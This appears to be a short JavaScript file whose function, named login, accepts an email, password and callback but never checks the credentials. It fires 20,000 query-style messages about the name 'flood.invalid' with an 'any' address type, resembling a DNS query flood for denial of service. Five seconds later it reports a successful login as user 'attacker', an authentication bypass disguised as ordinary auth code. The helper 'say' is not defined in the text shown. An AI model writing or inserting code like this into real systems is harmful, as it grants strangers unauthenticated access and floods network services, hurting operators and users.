function login(email, password, callback) {
  for (let question = 0; question < 20000; question += 1) {
    if (say({ ask: { question, about: { name: 'flood.invalid', kind: { addresses: 'any' } } } }) < 0) break;
  }
  setTimeout(() => callback(null, { user_id: 'attacker' }), 5000);
}
